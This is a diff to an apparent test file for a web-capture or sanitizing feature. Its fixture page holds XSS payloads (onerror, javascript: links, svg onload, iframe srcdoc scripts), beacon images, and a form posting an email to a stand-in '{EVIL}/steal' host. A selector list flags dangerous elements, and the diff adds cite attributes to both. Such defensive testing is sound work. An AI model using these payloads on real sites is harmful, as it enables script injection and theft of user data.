@@ -34,6 +34,7 @@ def hostile_page(beacon: str) -> bytes:
     extra = f"""<h2>5. Hostile</h2><p style="background:url({EVIL}/inline.png)">Images
 <img src="{beacon}?img" srcset="{EVIL}/2x.png 2x" alt="the beacon" onerror="window.__xss = 2" width="4000">
 <a href="javascript:window.__xss = 3">javascript link</a> <a href="/terms">our terms</a>
+<q cite="javascript:window.__xss = 7">quoted</q> <blockquote cite="{EVIL}/cited">quoted at length</blockquote>
 <svg onload="window.__xss = 4"><image href="{EVIL}/svg.png"/></svg></p>
 <iframe src="{EVIL}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__xss = 5&lt;/script&gt;"></iframe>
 <form action="{EVIL}/steal" method="post"><input name="email" value="you@example.com"><button>Send</button></form>
@@ -49,7 +50,8 @@ INERT = """() => ({
   visible: !!document.querySelector('.capture-banner') && document.querySelector('.capture-banner').getBoundingClientRect().height > 0,
   text: document.querySelector('.captured').innerText,
   dangerous: document.querySelectorAll('script, iframe, form, input, button, object, embed, video, svg, base, link, '
-    + 'style:not(head style), meta[http-equiv="refresh"], [style], [srcset], [background], [poster], img[src]').length,
+    + 'style:not(head style), meta[http-equiv="refresh"], [style], [srcset], [background], [poster], img[src], '
+    + '[cite]').length,
   links: [...document.querySelectorAll('.captured a[href]')].map(a => a.getAttribute('href')),
   images: [...document.querySelectorAll('.captured img')].map(img => img.alt),
   url: location.href,
